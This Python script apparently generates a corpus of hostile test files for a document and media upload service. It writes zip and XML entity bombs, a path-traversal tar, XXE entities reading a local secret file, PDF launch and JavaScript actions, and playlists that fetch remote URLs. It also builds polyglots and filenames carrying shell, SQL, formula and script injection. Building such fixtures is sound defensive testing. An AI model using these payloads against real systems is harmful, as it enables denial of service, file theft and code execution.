#!/usr/bin/env python3
"""Makes the hostile set: one file and more for every row of docs/threats.md.

    scripts/samples/threats.py FOLDER [PORT [quick]]

PORT: where files that reach for the network point, on 127.0.0.1 (default 9);
files that reach for other files point to FOLDER/../secret. `quick` leaves out
what a worker works on until its limits. Nothing of it is kept in the
repository: it is made anew for each test, in a few seconds. Names are raw
bytes, and some of them are no text. No two files have the same stem or the
same content, so each is a drop of its own.
"""
import argparse
import io
import os
import pathlib
import random
import struct
import subprocess
import tarfile
import zipfile
import zlib

ROOT = pathlib.Path(__file__).parents[2]
DATA = ROOT / "test_data"
ASKED = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
ASKED.add_argument("folder", type=pathlib.Path)
ASKED.add_argument("port", nargs="?", default="9")
ASKED.add_argument("extent", nargs="?", choices=("all", "quick"), default="all")
ASKED = ASKED.parse_args()
OUT, PORT, QUICK = ASKED.folder, ASKED.port, ASKED.extent == "quick"
COSTLY = ("form_bomb.pdf", "saves.pdf", "filter_bomb.pdf", "deep_content.pdf", "one_line.txt", "marks.txt", "costly.mp4",
          "vast_flate.pdf", "vast_jpx.pdf", "vast_jbig2.pdf")
HTTP = f"http://127.0.0.1:{PORT}"
SECRET = (OUT.resolve().parent / "secret")
FILM = (DATA / "media/black_silent.mp4").read_bytes()
GOOD_FILM = (DATA / "media/good.mp4").read_bytes()
WORD = (DATA / "entries/good_word.docx").read_bytes()
ODT = (DATA / "odt/article.odt").read_bytes()
PDF = (DATA / "entries/good_pdf.pdf").read_bytes()
JPEG = (DATA / "image/scan.jpg").read_bytes()
DISC = (DATA / "disc/joliet_rr.iso").read_bytes()


def save(name, data):
    if QUICK and name in COSTLY:
        return
    raw = name if isinstance(name, bytes) else name.encode()
    with open(os.path.join(os.fsencode(OUT), raw), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


# --- archives

def zipped(files, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=9) as z:
        for name, content in files:
            z.writestr(zipfile.ZipInfo(name), content, method)
    return out.getvalue()


def archives():
    save("ratio.zip", zipped([("phim.avi", bytes(300 << 20))]))
    one = zipped([("a.avi", bytes(3 << 20))])
    at, end = one.index(b"PK\x01\x02"), one.index(b"PK\x05\x06")
    table = one[at:end]
    many = b"".join(table[:46] + b"%05d" % i + table[51:] for i in range(2000))
    save("overlap.zip", one[:at] + many + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2000, 2000, len(many), at, 0))
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as t:
        def add(name, kind=tarfile.REGTYPE, target="", content=b""):
            head = tarfile.TarInfo(name)
            head.type, head.linkname, head.size = kind, target, len(content)
            t.addfile(head, io.BytesIO(content))
        for name in ("../../../../tmp/sokhao-escaped.mp4", "/tmp/sokhao-escaped.mp4", "..\\..\\sokhao-escaped.mp4", "a/" * 300 + "x.mp4",
                     "\x1b[2J\u202e4pm.exe", "=cmd|'/c calc'!A1.docx", "<script>alert(1)</script>.docx"):
            add(name, content=FILM)
        add("link", tarfile.SYMTYPE, str(SECRET))
        add("link/through.mp4", content=FILM)
        add("hard", tarfile.LNKTYPE, str(SECRET))
        add("device", tarfile.CHRTYPE)
        add("pipe", tarfile.FIFOTYPE)
    save("traversal.tar", tar.getvalue())
    level = FILM
    for depth in range(6):
        level = zipped([(f"{depth}.zip" if depth else "phim.mp4", level)], zipfile.ZIP_STORED)
    save("nested.zip", level)
    inner = zipped([("phim.avi", bytes(40 << 20))])
    for depth in range(3):
        inner = zipped([(f"{depth}-{i}.zip", inner) for i in range(16)])
    save("forty_two.zip", inner)
    save("many.zip", zipped([(f"{i}.txt", b"") for i in range(30_000)], zipfile.ZIP_STORED))
    lies = bytearray(zipped([("phim.mp4", FILM)], zipfile.ZIP_STORED))
    at = lies.index(b"PK\x01\x02")
    lies[at + 20:at + 28] = b"\xfe\xff\xff\xff" * 2
    save("sizes.zip", bytes(lies))
    save("packed.tar.gz", zlib.compress(b"")[:2] + b"not a gzip")
    stream = zlib.compressobj(9, wbits=31)
    head = tarfile.TarInfo("phim.avi")
    head.size = 2 << 30
    body = stream.compress(head.tobuf(tarfile.GNU_FORMAT))
    for _ in range(300):
        body += stream.compress(bytes(1 << 20))
    save("endless.tar.gz", body + stream.flush())


# --- documents in XML

def with_part(archive, name, change):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            content = old.read(item)
            new.writestr(item, change(content) if item.filename == name else content)
    return out.getvalue()


LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9)) + b"]>"
DEEP = 200_000


def behind_head(text):
    def change(content):
        at = content.index(b"?>") + 2 if content.startswith(b"<?xml") else 0
        return content[:at] + text + content[at:]
    return change


def xml():
    outside = f'<!DOCTYPE x [<!ENTITY f SYSTEM "file://{SECRET}"><!ENTITY h SYSTEM "{HTTP}/entity">]>'.encode()
    for kind, base, part, text_end, body in (("docx", WORD, "word/document.xml", b"</w:body>", b"w:t"), ("odt", ODT, "content.xml", b"</office:text>", b"text:span")):
        save(f"laughs_in.{kind}" if kind == "odt" else f"laughs.{kind}", with_part(base, part, lambda c: behind_head(LAUGHS)(c).replace(text_end, b"&j;" + text_end)))
        save(f"outside_in.{kind}" if kind == "odt" else f"outside.{kind}", with_part(base, part, lambda c: behind_head(outside)(c).replace(text_end, b"&f;&h;" + text_end)))
        save(f"deep_in.{kind}" if kind == "odt" else f"deep.{kind}", with_part(base, part, lambda c: c.replace(text_end, b"<%s>" % body * DEEP + b"</%s>" % body * DEEP + text_end)))
        save(f"attribute_in.{kind}" if kind == "odt" else f"attribute.{kind}", with_part(base, part, lambda c: c.replace(text_end, b'<%s x="%s"/>' % (body, b"y" * (30 << 20)) + text_end)))
        save(f"attributes_in.{kind}" if kind == "odt" else f"attributes.{kind}", with_part(base, part, lambda c: c.replace(text_end, b"<%s %s/>" % (body, b" ".join(b'a%d=""' % i for i in range(100_000))) + text_end)))
        save(f"elements_in.{kind}" if kind == "odt" else f"elements.{kind}", with_part(base, part, lambda c: c.replace(text_end, b"<%s/>" % body * 3_000_000 + text_end)))
    link = f'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="{HTTP}/picture.png" TargetMode="External"/>'.encode()
    save("linked.docx", with_part(WORD, "word/_rels/document.xml.rels", lambda c: c.replace(b"</Relationships>", link + b"</Relationships>")))
    save("linked_in.odt", with_part(ODT, "content.xml", lambda c: c.replace(b"</office:text>", f'<text:p><draw:frame><draw:image xlink:href="{HTTP}/o.png"/></draw:frame></text:p></office:text>'.encode())))


def other_text():
    save("linked_rich.rtf", "{\\rtf1\\ansi{\\field{\\*\\fldinst INCLUDEPICTURE \"%s/r.png\"}}Bai du thi {\\object\\objautlink{\\*\\objdata 00}}}" % HTTP)
    save("deep_groups.rtf", "{\\rtf1" + "{" * DEEP + "x" + "}" * DEEP + "}")
    save("binary.rtf", "{\\rtf1 a\\bin2147483647 b}")
    save("linked_page.doc", f'<html><link rel=stylesheet href="{HTTP}/c.css"><script src="{HTTP}/s.js"></script><img src="{HTTP}/i.png"><iframe src="file://{SECRET}"></iframe><p>' + "Bài dự thi " * 200)
    save("deep_page.html", "<html><body>" + "<div><b>" * DEEP + "x")
    save("laughs_page.xhtml", '<?xml version="1.0"?>' + LAUGHS.decode() + "<html xmlns='http://www.w3.org/1999/xhtml'><body>&j;</body></html>")
    save("one_line.txt", "a" * (20 << 20))
    save("marks.txt", "a" + "\u0301" * 2_000_000)


# --- PDF

class Pdf:
    def __init__(self):
        self.objects = []

    def add(self, body, stream=None, packed=0):
        raw = body.encode() if isinstance(body, str) else body
        if stream is not None:
            for _ in range(packed):
                stream = zlib.compress(stream, 9)
            filters = b"/Filter [%s]" % (b"/FlateDecode " * packed) if packed else b""
            raw = raw[:-2] + b" /Length %d %s >>\nstream\n%s\nendstream" % (len(stream), filters, stream)
        self.objects.append(raw)
        return len(self.objects)

    def bytes(self, root, trailer=""):
        out, places = bytearray(b"%PDF-1.7\n"), []
        for number, body in enumerate(self.objects, 1):
            places.append(len(out))
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
        start = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
        out += b"".join(b"%010d 00000 n \n" % p for p in places)
        out += f"trailer\n<< /Size {len(places) + 1} /Root {root} 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()
        return bytes(out)


def page_pdf(contents=b"", box="0 0 595 842", more="", resources="", packed=0, before=()):
    pdf = Pdf()
    for body, stream in before:
        pdf.add(body, stream)
    inside = pdf.add("<< >>", contents, packed)
    n = len(pdf.objects)
    pdf.add(f"<< /Type /Page /Parent {n + 2} 0 R /MediaBox [{box}] /Contents {inside} 0 R /Resources << {resources} >> {more} >>")
    pdf.add(f"<< /Type /Pages /Kids [{n + 1} 0 R] /Count 1 >>")
    return pdf.bytes(pdf.add(f"<< /Type /Catalog /Pages {n + 2} 0 R >>"))


def tree_pdf(pages, catalog=""):
    """Objects 1 catalog, 2 the page tree as given, 3 a page."""
    pdf = Pdf()
    pdf.add(f"<< /Type /Catalog /Pages 2 0 R {catalog} >>")
    pdf.add(pages)
    pdf.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    return pdf.bytes(1)


def picture(words, data=b"", width=65000, height=65000):
    return (f"<< /Type /XObject /Subtype /Image /Width {width} /Height {height} {words} >>", data)


def pdfs():
    save("vast_page.pdf", page_pdf(box="0 0 2000000 2000000"))
    save("user_unit.pdf", page_pdf(more="/UserUnit 100000"))
    save("deep_arrays.pdf", page_pdf(more="/X " + "[" * 300_000 + "]" * 300_000))
    save("deep_content.pdf", page_pdf(b"[" * 1_000_000))
    save("saves.pdf", page_pdf(b"q " * 1_000_000))
    save("page_loop.pdf", tree_pdf("<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 3 >>"))
    save("million_pages.pdf", tree_pdf("<< /Type /Pages /Kids [" + "3 0 R " * 1_000_000 + "] /Count 1000000 >>"))
    save("claims_pages.pdf", tree_pdf("<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"))
    save("filter_bomb.pdf", page_pdf(b"0 0 m 1 1 l S\n" * 20_000_000, packed=3))
    draw = b"q 500 0 0 500 0 0 cm /I Do Q"
    save("vast_flate.pdf", page_pdf(draw, resources="/XObject << /I 1 0 R >>", before=[picture("/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode", zlib.compress(bytes(1 << 20)))]))
    jp2 = b"\xff\x4f\xff\x51\x00\x29\x00\x00" + struct.pack(">IIIIIIII", 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 1, 1, 0, 0) + b"\x00\x01\x07\x01\x01\xff\x52\x00\x0c" + bytes(10) + b"\xff\xd9"
    save("vast_jpx.pdf", page_pdf(draw, resources="/XObject << /I 1 0 R >>", before=[picture("/Filter /JPXDecode", jp2)]))
    jbig2 = struct.pack(">IBBBI", 0, 0x30, 0, 1, 19) + struct.pack(">IIIIBH", 0xFFFFFFF0, 0xFFFFFFF0, 0, 0, 0, 0) + struct.pack(">IBBBI", 1, 0x26, 0, 1, 0xFFFFFFFF)
    save("vast_jbig2.pdf", page_pdf(draw, resources="/XObject << /I 1 0 R >>", before=[picture("/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode", jbig2)]))
    forms = [(f"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F {i + 2} 0 R >> >> >>", b"/F Do " * 10) for i in range(9)]
    forms.append(("<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] >>", b"0 0 9 9 re f"))
    save("form_bomb.pdf", page_pdf(b"/F Do", resources="/XObject << /F 1 0 R >>", before=forms))
    own = [("<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 1 0 R >> >> >>", b"/F Do")]
    save("form_in_itself.pdf", page_pdf(b"/F Do", resources="/XObject << /F 1 0 R >>", before=own))
    save("length_of_itself.pdf", page_pdf(b"BT ET").replace(b"/Length 5", b"/Length 1 0 R"))
    good = page_pdf(b"BT ET")
    save("table_loop.pdf", good.replace(b"trailer\n<<", b"trailer\n<< /Prev %d" % good.rindex(b"xref\n0")))
    actions = (f"/OpenAction << /S /Launch /F (/bin/sh) /Next << /S /URI /URI ({HTTP}/u) >> >> /AA << /O << /S /JavaScript /JS (app.launchURL('{HTTP}')) >> >> "
               f"/Names << /EmbeddedFiles << /Names [(a) << /F ({HTTP}/e) /Type /Filespec >>] >> >>")
    save("actions.pdf", tree_pdf("<< /Type /Pages /Kids [3 0 R] /Count 1 >>", actions))
    far = [("<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (%s/x) >> >>" % HTTP, b"")]
    save("far_picture.pdf", page_pdf(draw, resources="/XObject << /I 1 0 R >>", before=far))


# --- pictures

def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, *chunks):
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) + b"".join(chunks) + chunk(b"IEND", b"")


def tiff(width, height, entries=(), next_directory=0):
    tags = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 1), (259, 3, 1, 1), (262, 3, 1, 0), (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, 100), *entries]
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHII", *t) for t in sorted(tags)) + struct.pack("<I", next_directory) + bytes(100)


def pictures():
    at = JPEG.index(b"\xff\xc0") if b"\xff\xc0" in JPEG else JPEG.index(b"\xff\xc2")
    save("vast.jpg", JPEG[:at + 5] + struct.pack(">HH", 65500, 65500) + JPEG[at + 9:])
    save("vast_raster.png", png(60_000, 60_000, chunk(b"IDAT", zlib.compress(bytes(1 << 20), 9))))
    save("unpacks.png", png(100, 100, chunk(b"IDAT", zlib.compress(bytes(200 << 20), 9))))
    save("text_bomb.png", png(10, 10, *[chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(100 << 20), 9))] * 20, chunk(b"IDAT", zlib.compress(bytes(310)))))
    save("profile_bomb.png", png(10, 10, chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(100 << 20), 9)), chunk(b"IDAT", zlib.compress(bytes(310)))))
    save("vast_strips.tif", tiff(4_000_000_000, 4_000_000_000))
    save("loop.tif", tiff(100, 100, next_directory=8))
    save("counts_picture.tif", tiff(100, 100, [(270, 2, 0xFFFFFFFF, 8), (700, 1, 0x7FFFFFFF, 8)]))
    save("vast_screen.gif", b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\0\x02\x01\x44\0;")
    scans = b"".join(JPEG[JPEG.index(b"\xff\xda"):-2] for _ in range(300))
    save("scans.jpg", JPEG[:JPEG.index(b"\xff\xda")] + scans + b"\xff\xd9")


# --- films

def atom(kind, *content):
    body = b"".join(content)
    return struct.pack(">I", 8 + len(body)) + kind + body


def changed(data, kind, change):
    """Every `kind` atom's content through `change`, of the same length."""
    out, at = bytearray(data), 0
    while (at := data.find(kind, at)) >= 0:
        start, size = at + 4, struct.unpack(">I", data[at - 4:at])[0] - 8
        out[start:start + size] = change(bytearray(data[start:start + size]))
        at += 4
    return bytes(out)


def ffmpeg(name, *words):
    subprocess.run(["ffmpeg", "-v", "error", "-y", *words, str(OUT / name)], check=True, stdin=subprocess.DEVNULL)


def films():
    def put(at, value):
        def change(body):
            body[at:at + len(value)] = value
            return body
        return change
    save("vast_film.mp4", changed(GOOD_FILM, b"avc1", put(24, b"\xff\xff\xff\xff")))
    save("no_timescale.mp4", changed(changed(GOOD_FILM, b"mdhd", put(12, bytes(4))), b"mvhd", put(12, bytes(4))))
    save("vast_timescale.mp4", changed(GOOD_FILM, b"mdhd", put(12, b"\xff\xff\xff\xff\xff\xff\xff\xff")))
    save("vast_duration.mp4", changed(changed(GOOD_FILM, b"mvhd", put(16, b"\x7f\xff\xff\xff")), b"mdhd", put(12, b"\0\0\0\x01\x7f\xff\xff\xff")))
    save("counts.mp4", changed(changed(GOOD_FILM, b"stts", put(4, b"\xff\xff\xff\xff")), b"stsz", put(8, b"\x7f\xff\xff\xff")))
    save("one_step.mp4", changed(GOOD_FILM, b"stts", put(4, b"\0\0\0\x01\xff\xff\xff\xff\xff\xff\xff\xff")))
    deep = b""
    for _ in range(50_000):
        deep = struct.pack(">I", 8 + len(deep)) + b"moov" + deep if len(deep) < 400_000 else deep
    save("deep_atoms.mp4", atom(b"ftyp", b"isom", bytes(4), b"isom") + deep)
    track = GOOD_FILM[(at := GOOD_FILM.index(b"trak") - 4):at + struct.unpack(">I", GOOD_FILM[at:at + 4])[0]]
    header = GOOD_FILM[(at := GOOD_FILM.index(b"mvhd") - 4):at + struct.unpack(">I", GOOD_FILM[at:at + 4])[0]]
    save("streams.mp4", atom(b"ftyp", b"isom", bytes(4), b"isom") + atom(b"moov", header, track * 5_000) + atom(b"mdat", bytes(1000)))
    save("metadata.mp4", GOOD_FILM + atom(b"moov", atom(b"udta", atom(b"meta", bytes(4), atom(b"ilst", *[atom(b"\xa9cmt", atom(b"data", bytes(8), b"x" * 200)) for _ in range(40_000)])))))
    web = (DATA / "media/good.mkv").read_bytes()
    chapter = b"\xb6\x8f\x73\xc4\x81\x01\x91\x81\x00\x92\x81\x01\x80\x84\x85\x82\x61\x62"
    chapters = b"\x45\xb9" + struct.pack(">Q", 1 << 56 | len(chapter) * 200_000) + chapter * 200_000
    save("chapters.mkv", web[:-0 or None] + b"\x10\x43\xa7\x70" + struct.pack(">Q", 1 << 56 | len(chapters)) + chapters)
    save("elements_on.mkv", b"\x1a\x45\xdf\xa3\x8f\x42\x82\x88matroska\x42\x87\x81\x04" + b"\x18\x53\x80\x67\x01" + b"\xff" * 7 + b"\x1f\x43\xb6\x75\x01" + b"\xff" * 7 + b"\xec\x80" * 2_000_000)
    packet = bytes([0x47, 0x40, 0x00, 0x10, 0]) + bytes(183)
    table = b"".join(b"\x47" + struct.pack(">H", 0x4000 | pid) + b"\x10\0\0\xb0\x0d\0\x01\xc1\0\0" + struct.pack(">HH", pid, 0xE000 | pid) + bytes(4) + b"\xff" * 167 for pid in range(1, 8000))
    save("programs.ts", (packet[:4] + table[4:188]) + table)
    random.seed(5)
    save("noise.ts", b"".join(b"\x47" + random.randbytes(187) for _ in range(20_000)))
    save("noise_packs.mpg", b"".join(b"\0\0\x01\xba\x44" + random.randbytes(60) + b"\0\0\x01" + bytes([0xE0 + i % 16]) + random.randbytes(400) for i in range(5_000)))
    save("pictures.m2v", b"\0\0\x01\xb3\xff\xff\xff\x13\xff\xff\xe0\x18" + b"\0\0\x01\0\0\x0f\xff\xf8\0\0\x01\x01" * 500_000)
    avi = bytearray((DATA / "media/good.avi").read_bytes())
    at = avi.index(b"avih") + 8
    avi[at:at + 4], avi[at + 16:at + 20], avi[at + 24:at + 28], avi[at + 32:at + 40] = b"\x01\0\0\0", b"\xff" * 4, b"\xff" * 4, b"\xff" * 8
    save("counts_index.avi", bytes(avi))
    save("lists.avi", b"RIFF\xff\xff\xff\x7fAVI " + b"LIST\xff\xff\xff\x7fhdrl" * 100_000)
    if not QUICK:
        ffmpeg("costly.mp4", "-f", "lavfi", "-i", "color=red:s=8192x8192:r=25:d=1", "-c:v", "libx264", "-preset", "ultrafast", "-threads", "1")
    ffmpeg("tags.mp4", "-i", str(DATA / "media/good.mp4"), "-c", "copy", "-metadata", "title=<script>alert(1)</script>", "-metadata", "artist==HYPERLINK(\"http://x\")",
           "-metadata", "comment=x\n2026 INFO forged\x1b[31m\u202e")


def playlists():
    lists = {
        "hls": f"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXT-X-KEY:METHOD=AES-128,URI=\"{HTTP}/key\"\n#EXTINF:10,\n{HTTP}/leak.ts\n#EXTINF:10,\nfile://{SECRET}\n#EXT-X-ENDLIST\n",
        "master": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{HTTP}/sub.m3u8\n",
        "ffconcat": f"ffconcat version 1.0\nfile {SECRET}\nfile {HTTP}/c.ts\n",
        "concat": f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:{HTTP}/x|file://{SECRET}\n#EXT-X-ENDLIST\n",
        "sdp": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {PORT} RTP/AVP 33\n",
        "dash": f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1"><BaseURL>{HTTP}/d.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>',
        "asx": f'<asx version="3.0"><entry><ref href="{HTTP}/a.wmv"/></entry></asx>', "ram": f"{HTTP}/r.rm\n", "xspf": f'<playlist version="1"><trackList><track><location>{HTTP}/x</location></track></trackList></playlist>',
        "cue": f'FILE "{SECRET}" BINARY\n  TRACK 01 MODE1/2352\n    INDEX 01 00:00:00\n'}
    for kind, text in lists.items():
        for lines, ending in enumerate(("mp4", "avi", "ts") if kind in ("hls", "ffconcat", "concat") else ("mp4",)):
            save(f"{kind}_{ending}.{ending}", text + "\n" * lines)
    for ending in ("m3u8", "ffconcat", "mpd"):
        save(f"list_{ending}.{ending}", lists[{"m3u8": "hls", "ffconcat": "ffconcat", "mpd": "dash"}[ending]] + "\n\n\n")
    gab2 = b"GAB2\0" + struct.pack("<HI", 2, 0) + struct.pack("<HI", 4, len(lists["hls"])) + lists["hls"].encode()
    avi = (DATA / "media/good.avi").read_bytes()
    at = avi.index(b"movi") + 4
    save("subtitle.avi", avi[:at] + b"01tx" + struct.pack("<I", len(gab2)) + gab2 + b"\0" * (len(gab2) % 2) + avi[at:])
    url = atom(b"url ", b"\0\0\0\0", HTTP.encode() + b"/dref\0")
    save("reference.mov", GOOD_FILM.replace(atom(b"url ", b"\0\0\0\x01"), url))
    save("redirect.mov", atom(b"ftyp", b"qt  ", bytes(4), b"qt  ") + atom(b"moov", atom(b"rmra", atom(b"rmda", atom(b"rdrf", bytes(4), b"url ", struct.pack(">I", len(HTTP) + 3), HTTP.encode() + b"/m\0")))))


# --- one file, two readings

def polyglots():
    save("page.pdf.html", b"<html><script>fetch('%s')</script><!--\n" % HTTP.encode() + PDF)
    save("page_behind.pdf", b"<!--\n" + PDF + f"\n--><script src='{HTTP}/p.js'></script>".encode())
    save("picture.jpg", JPEG + zipped([("phim.mp4", FILM)]))
    save("disc.iso", PDF[:30_000].ljust(32_768, b"\0") + DISC[32_768:])
    save("film.mp4", FILM + zipped([("bai.docx", WORD)]))
    save("script.docx", b"#!/bin/sh\ntouch /tmp/sokhao-escaped\n" + WORD)
    save("drawing.svg", f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="{HTTP}/s"/></svg>')


# --- names and texts that do something where they are shown

NAMES = ("<script>alert(1)<", '"><img src=x onerror=alert(1)>', "=HYPERLINK(\"http:", "=cmd|' ", "+1+1", "-1", "@SUM(A1)", "\t=1+1", "＝1+1", "-rf", "$(touch sokhao-escaped)", "`touch sokhao-escaped`", "a;touch sokhao-escaped",
         "a\x1b[31m\x1b]0;x\x07", "a\nINFO forged=1", "a\r\nSet-Cookie: x", "a\u202efdp.exe", "a\u2066b\u2069", "a\u2028b", "a\u200fb", "\u00a0", "%n%s%p", "{0}{{", "..", "CON", "a'; DROP TABLE entry;--", "&amp;&lt;", "a" * 240, "漢" * 70)


def another_word():
    """The same document with another comment behind it."""
    another_word.count += 1
    comment = b"%d" % another_word.count
    return WORD[:-2] + struct.pack("<H", len(comment)) + comment


another_word.count = 0


def names():
    for name in NAMES:
        save(name.replace("/", "∕") + ".txt.docx", another_word())
    save(b"a\xff\xfe\xc3(.docx", another_word())
    save(b"\xc0\xae\xc0\xae\xc0\xafx.docx", another_word())
    evil = ["<script>alert(1)</script>", "=HYPERLINK(\"http://x\")", "x\u202ey\u2066", "a\x1b[31mb", "Nguyễn\nVăn: An"]
    for i, text in enumerate(evil):
        save(f"form{i}.docx", another_word())
        save(f"form{i}.txt", f"Họ và tên: {text}\nĐơn vị: {text}\nTên tác phẩm: {text}\nĐiện thoại: {text}\n{text}\n")
    save("form_toml.docx", another_word())
    save("form_toml.toml", 'authors = ["<b>x</b>\\u001b[31m", "=1+1"]\nunit = "@SUM(1)\\u202e"\ntitle = "' + "x" * 200_000 + '"\n')
    save("form_deep.docx", another_word())
    save("form_deep.toml", "title = " + "[" * 100_000)
    cover = "".join(f"<w:p><w:r><w:t xml:space=\"preserve\">{label}: {text}</w:t></w:r></w:p>" for label, text in (
        ("Họ và tên", "&lt;script&gt;alert(1)&lt;/script&gt;"), ("Đơn vị", "=HYPERLINK(&quot;http://x&quot;)"), ("Tên bài", "x\u202ey\u2066z\u0085"), ("Điện thoại", "@SUM(A1)")))
    def with_cover(content):
        at = content.index(b"<w:body>") + 8
        return content[:at] + cover.encode() + content[at:]
    save("cover.docx", with_part(WORD, "word/document.xml", with_cover))


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    SECRET.write_bytes((DATA / "media/good.ts").read_bytes())
    for make in (archives, xml, other_text, pdfs, pictures, films, playlists, polyglots, names):
        make()


if __name__ == "__main__":
    main()
